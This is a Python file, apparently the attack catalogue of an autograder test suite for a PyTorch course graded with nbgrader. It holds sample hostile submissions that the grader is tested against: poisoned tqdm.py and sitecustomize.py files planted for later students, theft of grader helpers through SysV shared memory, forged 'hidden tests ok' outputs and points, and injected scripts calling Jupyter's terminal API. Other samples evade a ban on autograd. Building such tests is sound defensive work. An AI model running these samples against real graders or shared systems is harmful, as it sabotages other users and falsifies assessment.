    return torch.clamp(T, min=0) + torch.clamp(alpha * (torch.exp(T / alpha) - 1), max=0)
'''

# 24. Autograd, plainly: compute the derivatives and the loss gradients with torch.autograd.
ataque(
    "autograd_directo",
    "Responde las derivadas con torch.autograd.grad dentro de las funciones (prohibido: vale 0).",
    {"derivadas_codigo": r'''
import torch


def _derivadas(fn, T, p=None):
    X = T.detach().clone().requires_grad_(True)
    if p is None:
        return torch.autograd.grad(fn(X).sum(), X)[0]
    P = (torch.as_tensor(p, dtype=T.dtype) * torch.ones_like(T)).requires_grad_(True)
    return torch.autograd.grad(fn(X, P).sum(), (X, P))
''' + _CINCO})


# 25. State that a reused sandbox might carry to the next student: files, a module that shadows
# tqdm (which the next notebook imports), SysV IPC.  A later attack looks for it.
ataque(
    "plantar_para_el_siguiente",
    "Deja archivos, un tqdm.py falso y colas de mensajes SysV para el siguiente alumno que corra en el mismo sandbox.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import ctypes
import os

_VENENO = "import torch\ntorch.sigmoid = lambda T: T * 0\ntorch.Tensor.__matmul__ = lambda a, b: a.new_zeros(())\nprint('PWNED_plantar_para_el_siguiente')\n"
for _d in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), os.path.join(os.getcwd(), ".ipython", "profile_default", "startup")):
    try:
        os.makedirs(_d, exist_ok=True)
        for _n in ("tqdm.py", "sitecustomize.py", "00-PWNED.py", "PWNED_plantar_para_el_siguiente"):
            with open(os.path.join(_d, _n), "w") as fh:
                fh.write(_VENENO)
        os.makedirs(os.path.join(_d, "sklearn"), exist_ok=True)
        with open(os.path.join(_d, "sklearn", "__init__.py"), "w") as fh:
            fh.write(_VENENO)
    except OSError:
        pass
_libc = ctypes.CDLL(None, use_errno=True)
_q = _libc.msgget(0x50574E45, 0o1666)


class _Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 64)]


if _q >= 0:
    _m = _Msg(1, b"PWNED_plantar_para_el_siguiente")
    _libc.msgsnd(_q, ctypes.byref(_m), 64, 0x800)  # IPC_NOWAIT
print("plantado")
''')})


ataque(
    "buscar_lo_plantado",
    "Busca lo que dejaron alumnos anteriores (archivos, memoria compartida, colas SysV, procesos) y lo reporta.",
    {"derivadas_codigo": despues("derivadas_codigo", r'''
import ctypes
import os

import sys

_vistos = []
# the course's own Python (read-only) may live under /tmp too (a CI checkout): not a leftover
_propios = tuple(os.path.realpath(p) + os.sep for p in {sys.prefix, sys.base_prefix})
for _d in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for _raiz, _dirs, _archivos in os.walk(_d):
            if (os.path.realpath(_raiz) + os.sep).startswith(_propios):
                _dirs[:] = []
                continue
            _vistos += [os.path.join(_raiz, a) for a in _archivos + _dirs if "PWNED" in a or a in ("tqdm.py", "sitecustomize.py", "sklearn")]
    except OSError:
        pass
for _f in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"):
    try:
        with open(_f) as fh:
            _lineas = fh.read().splitlines()[1:]
        _vistos += ["%s: %s" % (_f, l.split()[0]) for l in _lineas]
    except OSError:
        pass
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            with open("/proc/%s/cmdline" % _pid, "rb") as fh:
                _c = fh.read()
            if b"PWNED" in _c or b"613" in _c:
                _vistos.append("proceso %s" % _pid)
        except OSError:
            pass
import sys
if "tqdm" in sys.modules and "PWNED" in open(getattr(sys.modules["tqdm"], "__file__", "") or os.devnull).read():
    _vistos.append("tqdm envenenado")
print("FUGA_ENTRE_ALUMNOS" if _vistos else "nada de otros alumnos", _vistos)
''')})


# 27-28. Two students who help each other: the first keeps the helpers a test lends it (correct
# activations, CELoss, SGD) in SysV shared memory; the second, graded later in the same sandbox,
# answers Parts 1 and 4a with them before their tests run.
_SHM = r'''
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmdt.argtypes = (ctypes.c_void_p,)
_CLAVE = 0x41594441  # "AYDA"
'''
ataque(
    "ayudas_a_otro_alumno",
    "grad_capa_escondida guarda en memoria compartida SysV el código que le presta el test, para otro alumno.",
    {"capas_escondidas": _SHM + r'''
import sys


def _guardar(texto):
    datos = texto.encode() + b"\0"
    ident = _libc.shmget(_CLAVE, 1 << 20, 0o1666)
    p = _libc.shmat(ident, None, 0)
    ctypes.memmove(p, datos, len(datos))
    _libc.shmdt(ctypes.c_void_p(p))


def grad_capa_escondida(dL_dh, h_prev, W, b, f, p=None):
    marco = sys._getframe(1)
    while marco is not None:
        for v in list(marco.f_locals.values()):
            if isinstance(v, dict) and isinstance(v.get("helpers_source"), str) and v["helpers_source"]:
                _guardar(v["helpers_source"])
        marco = marco.f_back
    raise NotImplementedError()
'''})
ataque(
    "ayudas_de_otro_alumno",
    "Lee de la memoria compartida las ayudas que dejó otro alumno y responde las Partes 1 y 4a con ellas.",
    {"derivadas_codigo": despues("derivadas_codigo", _SHM + r'''
_ROBADAS = {}
_ident = _libc.shmget(_CLAVE, 0, 0)
if _ident >= 0:
    _p = _libc.shmat(_ident, None, 0o10000)  # SHM_RDONLY
    exec(ctypes.string_at(_p).decode(), _ROBADAS)
    _libc.shmdt(ctypes.c_void_p(_p))
    sig, tanh, relu, swish, celu = (_ROBADAS[n] for n in ("sig", "tanh", "relu", "swish", "celu"))
print("ayudas de otro alumno:", sorted(k for k in _ROBADAS if not k.startswith("_"))[:6])
'''), "celoss": despues("celoss", r'''
if _ROBADAS:
    CELoss = _ROBADAS["CELoss"]
'''), "sgd": despues("sgd", r'''
if _ROBADAS:
    class SGD(_ROBADAS["SGDReferencia"]):
        pass
''')})


# 29. nbgrader's hidden-test markers in an answer: the course's feedback step chokes on them.
ataque(
    "romper_retroalimentacion",
    "Escribe '### BEGIN HIDDEN TESTS' sin su END en una respuesta, para que falle la retroalimentación del curso.",
    {"chequeo_gradiente": despues("chequeo_gradiente", r'''
# ### BEGIN HIDDEN TESTS
# (lo que sigue no debería verse en la retroalimentación de nadie)
''')})


# 30. The submitted file itself claims to be graded: outputs, execution counts, extra points.
def _ya_calificado(nb):
    for n, cell in enumerate(nb["cells"]):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] != "code":
            if meta.get("solution"):
                meta.update({"grade": True, "points": 100, "solution": False, "locked": True})
            continue
        cell["execution_count"] = n + 1
        gid = meta.get("grade_id", "")
        if gid.startswith("test_"):
            cell["source"] += '\nprint("Tests ocultos de {}: ok")\n'.format(gid[5:])
            cell["outputs"] = [{"output_type": "stream", "name": "stdout",
                                "text": "Tests ocultos de {}: ok\n".format(gid[5:])},
                               {"output_type": "execute_result", "execution_count": n + 1, "metadata": {},
                                "data": {"text/plain": str(meta.get("points", 0))}}]
            meta["points"] = 100
        elif meta.get("solution"):
            meta.update({"grade": True, "points": 50, "solution": False, "locked": True, "grade_id": "test_" + gid})
    extra = {"cell_type": "code", "execution_count": 99, "id": "extra-pwned", "source": 'hidden.evaluar("test_sgd")',
             "outputs": [{"output_type": "stream", "name": "stdout", "text": "Tests ocultos de sgd: ok\n"}],
             "metadata": {"nbgrader": {"grade": True, "grade_id": "test_extra_PWNED", "locked": True,
                                       "points": 1000, "schema_version": 3, "solution": False}}}
    nb["cells"].append(extra)
    nb["metadata"]["tarea2_calificacion"] = {"semilla": 1, "aislado": True, "notas": [], "segundos": 1.0}
    nb["metadata"]["nbgrader"] = {"score": 100, "max_score": 100}


ataque(
    "ya_calificado_en_el_json",
    "El JSON trae salidas 'Tests ocultos: ok', contadores de ejecución y metadatos de nbgrader con puntos extra.",
    {}, json_edit=_ya_calificado)


# 31. HTML and JavaScript for whoever opens the graded notebook (formgrader, feedback).
ataque(
    "html_para_el_profesor",
    "Deja <script> y JavaScript en salidas y en una respuesta escrita, para quien abra la corrección.",
    {"derivadas_md": 'Mi respuesta.\n\n<script>fetch("/api/contents/PWNED_html_md", {method: "PUT"})</script>\n'
                     '<img src="x" onerror="fetch(\'/api/terminals\', {method: \'POST\'})//PWNED_html_md">\n',
     "derivadas_codigo": despues("derivadas_codigo", r'''
from IPython.display import HTML, Javascript, display

display(HTML('<script>fetch("/api/kernels", {method: "POST"})//PWNED_html_salida</script>'))
display(Javascript('fetch("/api/terminals", {method: "POST"})//PWNED_js_salida'))
''')})


# 32. A notebook that nbformat reads but does not validate: "72/72" as an execution count.
def _contador_falso(nb):
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = "72/72"


ataque(
    "contador_de_ejecucion_falso",
    "El JSON pone '72/72' como contador de ejecución de cada celda (JSON válido, notebook inválido).",
    {}, json_edit=_contador_falso)


# --------------------------------------------------------------------------- autograd in another process
# Each of these evades the in-process traps by computing with autograd in a process of its own;
# ``PROCESS_ROUTES`` names them and the tests they would pass without the process barrier.

# 33. A helper process started by an answer cell, before any test runs, serving derivatives.
ataque(
    "autograd_en_ayudante",
    "Una celda arranca un proceso ayudante (multiprocessing) que calcula las derivadas con autograd; "
    "las funciones le mandan T y reciben la respuesta.",
    {"derivadas_codigo": r'''
import multiprocessing as _mp
import torch


def _servir(conn):
    import torch as t
    fns = {"sig": t.sigmoid, "tanh": t.tanh, "relu": t.relu,
           "swish": lambda X, B: X * t.sigmoid(B * X), "celu": lambda X, A: t.celu(X, A)}
    while True:
        nombre, T, p = conn.recv()
        X = T.detach().clone().requires_grad_(True)
        ins = [X]
        if p is not None:
            P = t.tensor(float(p), dtype=T.dtype, requires_grad=True)
            ins.append(P)
        y = fns[nombre](*ins)
        gx = t.autograd.grad(y.sum(), X, retain_graph=True)[0]
        if p is None:
            conn.send(gx)
        else:
            gp = t.stack([t.autograd.grad(v, P, retain_graph=True)[0] for v in y.reshape(-1)]).reshape(T.shape)
            conn.send((gx, gp))


_yo, _el = _mp.get_context("fork").Pipe()
try:
    _ayudante = _mp.get_context("fork").Process(target=_servir, args=(_el,), daemon=True)
    _ayudante.start()
except Exception as _e:
    print("no pude arrancar el ayudante:", type(_e).__name__)


def _pedir(nombre, T, p=None):
    _yo.send((nombre, T.detach(), None if p is None else float(p)))
    return _yo.recv()


def sig(T, gradient=False):
    return _pedir("sig", T) if gradient else torch.sigmoid(T)


def tanh(T, gradient=False):
    return _pedir("tanh", T) if gradient else torch.tanh(T)


def relu(T, gradient=False):
    return _pedir("relu", T) if gradient else torch.clamp(T, min=0)


def swish(T, beta=1.0, gradient=False):
    return _pedir("swish", T, beta) if gradient else T * torch.sigmoid(beta * T)


def celu(T, alpha=1.0, gradient=False):
    return _pedir("celu", T, alpha) if gradient else torch.clamp(T, min=0) + torch.clamp(alpha * (torch.exp(T / alpha) - 1), max=0)
'''})


# 34. A fresh Python interpreter started at the first call (the traps exist only in the probe).
ataque(
    "autograd_en_interprete_nuevo",
    "grad_capa_escondida lanza un intérprete de Python nuevo (subprocess) que hace backward y le "
    "devuelve los gradientes.",
    {"capas_escondidas": r'''
import io
import subprocess
import sys

import torch

_HIJO = """
import io, sys, torch
dL_dh, h_prev, W, b, nombre, p = torch.load(io.BytesIO(sys.stdin.buffer.read()))
W = W.clone().requires_grad_(True); b = b.clone().requires_grad_(True); h_prev = h_prev.clone().requires_grad_(True)
u = h_prev @ W + b
fs = {"sig": torch.sigmoid, "tanh": torch.tanh, "relu": torch.relu,
      "swish": lambda x: x * torch.sigmoid(p * x), "celu": lambda x: torch.celu(x, p)}
h = fs[nombre](u)
g = torch.autograd.grad(h, (W, b, h_prev), dL_dh)
buf = io.BytesIO(); torch.save(g, buf); sys.stdout.buffer.write(buf.getvalue())
"""


def grad_capa_escondida(dL_dh, h_prev, W, b, f, p=None):
    buf = io.BytesIO()
    torch.save((dL_dh, h_prev, W, b, f.__name__, None if p is None else float(p)), buf)
    run = subprocess.run([sys.executable, "-c", _HIJO], input=buf.getvalue(), capture_output=True, check=True)
    return tuple(torch.load(io.BytesIO(run.stdout)))
'''})


# 35. fork + exec at call time: the network's gradients from loss.backward() in a new interpreter.
ataque(
    "autograd_en_fork_exec",
    "FFNN.backward hace os.fork() y os.execv() de un Python nuevo que calcula los gradientes con "
    "loss.backward() y los devuelve por un pipe.",
    {"ffnn_backward": despues("ffnn_backward", r'''
import io as _io
import os as _os
import sys as _sys

_HIJO = """
import io, os, sys, torch
Ws, bs, U, c, nombres, x, y = torch.load(io.BytesIO(os.read(0, 1 << 26)))
fs = {"sig": torch.sigmoid, "tanh": torch.tanh, "relu": torch.relu}
ps = [p.clone().requires_grad_(True) for p in list(Ws) + list(bs) + [U, c]]
L = len(Ws)
h = x
for k in range(L):
    h = fs[nombres[k]](h @ ps[k] + ps[L + k])
q = torch.softmax(h @ ps[-2] + ps[-1], dim=1)
(-(y * torch.log(q)).sum(1).mean()).backward()
buf = io.BytesIO(); torch.save([p.grad for p in ps], buf); os.write(1, buf.getvalue())
"""


def _backward_en_otro_interprete(self, x, y, y_pred):
    buf = _io.BytesIO()
    torch.save(([w.detach() for w in self.Ws], [b.detach() for b in self.bs], self.U.detach(), self.c.detach(),
                [f.__name__ for f in self.fs], x.detach(), y.detach()), buf)
    entrada_r, entrada_w = _os.pipe()
    salida_r, salida_w = _os.pipe()
    pid = _os.fork()
    if pid == 0:
        _os.dup2(entrada_r, 0)
        _os.dup2(salida_w, 1)
        _os.execv(_sys.executable, [_sys.executable, "-c", _HIJO])
    _os.write(entrada_w, buf.getvalue())
    _os.close(entrada_w)
    _os.close(salida_w)
    datos = b"".join(iter(lambda: _os.read(salida_r, 1 << 20), b""))
    _os.waitpid(pid, 0)
    grads = torch.load(_io.BytesIO(datos))
    L = len(self.Ws)
    for k in range(L):
        self.Ws[k].grad, self.bs[k].grad = grads[k], grads[L + k]
    self.U.grad, self.c.grad = grads[-2], grads[-1]


FFNN.backward = _backward_en_otro_interprete
''')})

PROCESS_ROUTES = {
    "autograd_en_ayudante": PARTE_1A,
    "autograd_en_interprete_nuevo": ("test_capa_escondida_basicas", "test_capa_escondida_param"),
    "autograd_en_fork_exec": ("test_backward_basicas",),
}


# --------------------------------------------------------------------------- machine-made derivatives in the sandbox
# Each of these computes Part 1's derivatives with a machine: autograd past the probe's traps,
# torch's engine or backward kernels, forward mode, symbolic differentiation, or code hidden where a
# reader would not look.  ``REVIEW_ROUTES`` names those that the in-process traps do not stop and the
# tests they would pass if the review of the source were switched off (tests/test_barreras.py proves
# it); with the review on, each earns 0 and its parts say "revisión: celda N, línea L"
# (tests/test_attacks.py, through pipeline.grade).

# Only sig, tanh and relu (the basic test); swish and celu keep the release's NotImplementedError.
_TRES = r'''

def sig(T, gradient=False):
    return _d_sig(T) if gradient else torch.sigmoid(T)


def tanh(T, gradient=False):
    return _d_tanh(T) if gradient else torch.tanh(T)


def relu(T, gradient=False):
    return _d_relu(T) if gradient else torch.clamp(T, min=0)


def swish(T, beta=1.0, gradient=False):
    if gradient:
        raise NotImplementedError
    return T * torch.sigmoid(beta * T)


def celu(T, alpha=1.0, gradient=False):
    if gradient:
        raise NotImplementedError
    return torch.clamp(T, min=0) + torch.clamp(alpha * (torch.exp(T / alpha) - 1), max=0)
'''


def _celda_agregada(antes_de, fuente, nombre):
    """A json_edit that adds an unlocked code cell (no nbgrader metadata) before ``antes_de``."""
    def editar(nb):
        i = next(k for k, c in enumerate(nb["cells"])
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == antes_de)
        nb["cells"].insert(i, {"cell_type": "code", "execution_count": None, "id": nombre, "metadata": {},
                               "outputs": [], "source": fuente})
    return editar


# 36. The probe harness changed from a cell: the traps become a no-op, then plain .backward().
ataque(
    "arnes_cambiado_desde_celda",
    "Una celda busca el módulo de pruebas en sys.modules y apaga sus trampas; después las derivadas "
    "salen de .backward().",
    {"derivadas_codigo": r'''
import contextlib
import sys

import torch

for _nombre, _modulo in list(sys.modules.items()):
    if hasattr(_modulo, "_sin_autograd") and hasattr(_modulo, "llamar"):
        _modulo._sin_autograd = lambda log: contextlib.nullcontext()


def _derivadas(fn, T, p=None):
    X = T.detach().clone().requires_grad_(True)
    P = None if p is None else (float(p) * torch.ones_like(T)).requires_grad_(True)
    with torch.enable_grad():
        (fn(X) if P is None else fn(X, P)).sum().backward()
    return X.grad if P is None else (X.grad, P.grad)
''' + _CINCO})


# 37. torch's C++ engine through a fresh handle (the trap watches the class attribute, not the engine).
ataque(
    "motor_torch_C",
    "Llama directo al motor de autograd de C++ (torch._C._ImperativeEngine) con un objeto nuevo.",
    {"derivadas_codigo": r'''
import torch

_MOTOR = torch._C._ImperativeEngine()


def _derivadas(fn, T, p=None):
    X = T.detach().clone().requires_grad_(True)
    ins = [X]
    if p is not None:
        ins.append((float(p) * torch.ones_like(T)).requires_grad_(True))
    with torch.enable_grad():
        y = fn(*ins).sum()
        g = _MOTOR.run_backward((y,), (torch.ones_like(y),), False, False, tuple(ins), True, False)
    return g[0] if p is None else (g[0], g[1])
''' + _CINCO})


# 38. Forward mode, with the dual-number functions kept before any test replaces them.
ataque(
    "modo_directo_guardado",
    "Usa el modo directo de autograd (números duales) con make_dual/unpack_dual importados antes de los tests.",
    {"derivadas_codigo": r'''
import torch
from torch.autograd.forward_ad import dual_level, make_dual, unpack_dual


def _tangente(fn, entradas, k):
    with dual_level():
        duales = [make_dual(v, torch.ones_like(v)) if i == k else v for i, v in enumerate(entradas)]
        return unpack_dual(fn(*duales)).tangent.clone()


def _derivadas(fn, T, p=None):
    X = T.detach().clone()
    if p is None:
        return _tangente(fn, [X], 0)
    P = float(p) * torch.ones_like(T)
    return _tangente(fn, [X, P], 0), _tangente(fn, [X, P], 1)
''' + _CINCO})


# 39. torch's backward kernels: the derivative formulas torch itself uses, called by name.
def _con_kernels(cabecera, modulo):
    """sig, tanh and relu's derivatives from torch's own backward formulas, found in ``modulo``."""
    return cabecera + r'''

def _d_sig(T):
    return MODULO.sigmoid_backward(torch.ones_like(T), torch.sigmoid(T))


def _d_tanh(T):
    return MODULO.tanh_backward(torch.ones_like(T), torch.tanh(T))


def _d_relu(T):
    return MODULO.threshold_backward(torch.ones_like(T), T, 0)
'''.replace("MODULO", modulo) + _TRES


ataque(
    "kernels_backward_aten",
    "Llama a los kernels de derivadas de torch (torch.ops.aten.sigmoid_backward, tanh_backward, threshold_backward).",
    {"derivadas_codigo": _con_kernels("import torch\n\n_aten = torch.ops.aten\n", "_aten")})


# 40. The same formulas from torch's decompositions (Python, not a kernel).
ataque(
    "decomposiciones_torch",
    "Toma las derivadas de torch._decomp.decompositions (sigmoid_backward, tanh_backward, threshold_backward).",
    {"derivadas_codigo": _con_kernels("import torch\nfrom torch._decomp import decompositions as _dec\n", "_dec")})


# 41. Symbolic differentiation with sympy (it ships with torch), evaluated with numpy.
ataque(
    "derivacion_simbolica",
    "Deriva las fórmulas con sympy (sympy.diff) y evalúa las derivadas con lambdify.",
    {"derivadas_codigo": r'''
import numpy as np
import sympy as sp
import torch

_x = sp.Symbol("x")
_FORMULAS = {"sig": 1 / (1 + sp.exp(-_x)), "tanh": sp.tanh(_x), "relu": sp.Max(0, _x)}
_HEAVISIDE = {"Heaviside": lambda a, *r: np.heaviside(a, 0.0)}


def _simbolica(nombre, T):
    d = sp.lambdify(_x, sp.diff(_FORMULAS[nombre], _x), modules=[_HEAVISIDE, "numpy"])
    v = np.asarray(d(T.detach().cpu().double().numpy()), dtype=np.float64) * np.ones(tuple(T.shape))
    return torch.as_tensor(v, dtype=T.dtype)


def _d_sig(T):
    return _simbolica("sig", T)


def _d_tanh(T):
    return _simbolica("tanh", T)


def _d_relu(T):
    return _simbolica("relu", T)
''' + _TRES})


# 42. Names built at run time, so that no line of the cell spells autograd.
ataque(
    "nombres_armados",
    "Arma en tiempo de ejecución los nombres de autograd (getattr con 'auto' + 'grad') para que no se lean.",
    {"derivadas_codigo": r'''
import torch

_ag = getattr(torch, "auto" + "grad")
_deriva = getattr(_ag, "gr" + "ad")


def _derivadas(fn, T, p=None):
    X = T.detach().clone().requires_grad_(True)
    ins = [X]
    if p is not None:
        ins.append((float(p) * torch.ones_like(T)).requires_grad_(True))
    with torch.enable_grad():
        g = _deriva(fn(*ins).sum(), tuple(ins))
    return g[0] if p is None else (g[0], g[1])
''' + _CINCO})


# 43. The machine-made derivative lives in a cell the student added (no nbgrader metadata).
ataque(
    "celda_agregada_oculta",
    "Agrega una celda propia, antes de la respuesta, con la derivación en modo directo; la celda de "
    "respuesta solo la llama.",
    {"derivadas_codigo": "import torch\n" + _CINCO},
    json_edit=_celda_agregada("derivadas_codigo", r'''
import torch
from torch.autograd.forward_ad import dual_level as _nivel, make_dual as _dual, unpack_dual as _abrir


def _derivadas(fn, T, p=None):
    def tangente(k):
        entradas = [T.detach().clone()] + ([] if p is None else [float(p) * torch.ones_like(T)])
        with _nivel():
            entradas[k] = _dual(entradas[k], torch.ones_like(entradas[k]))
            return _abrir(fn(*entradas)).tangent.clone()
    return tangente(0) if p is None else (tangente(0), tangente(1))
''', "PWNED-celda-agregada"))


# 44. A module written with %%writefile in an added cell and imported by the answer.
ataque(
    "modulo_writefile",
    "Una celda agregada escribe un módulo con %%writefile que deriva con torch.func.jvp; la respuesta lo importa.",
    {"derivadas_codigo": r'''
import sys

import torch

sys.path.insert(0, ".")
from derivadas_rapidas import _derivadas
''' + _CINCO},
    json_edit=_celda_agregada("derivadas_codigo", r'''%%writefile derivadas_rapidas.py
import torch
from torch.func import jvp


def _derivadas(fn, T, p=None):
    X = T.detach().clone()
    if p is None:
        return jvp(fn, (X,), (torch.ones_like(X),))[1]
    P = float(p) * torch.ones_like(T)
    return (jvp(lambda a: fn(a, P), (X,), (torch.ones_like(X),))[1],
            jvp(lambda b: fn(X, b), (P,), (torch.ones_like(P),))[1])
''', "PWNED-writefile"))

# What each route would earn with the review of the source switched off (the traps miss it).
REVIEW_ROUTES = {
    "motor_torch_C": PARTE_1A,
    "modo_directo_guardado": PARTE_1A,
    "kernels_backward_aten": ("test_derivadas_basicas",),
    "decomposiciones_torch": ("test_derivadas_basicas",),
    "derivacion_simbolica": ("test_derivadas_basicas",),
    "celda_agregada_oculta": PARTE_1A,
}
# The others of this group (the harness changed from a cell, names built at run time, the %%writefile
# module) are also stopped by the traps: the probe's harness is not the student's to change.
MACHINE_DERIVATIVES = ("arnes_cambiado_desde_celda", "motor_torch_C", "modo_directo_guardado", "kernels_backward_aten",
                       "decomposiciones_torch", "derivacion_simbolica", "nombres_armados", "celda_agregada_oculta",
                       "modulo_writefile")
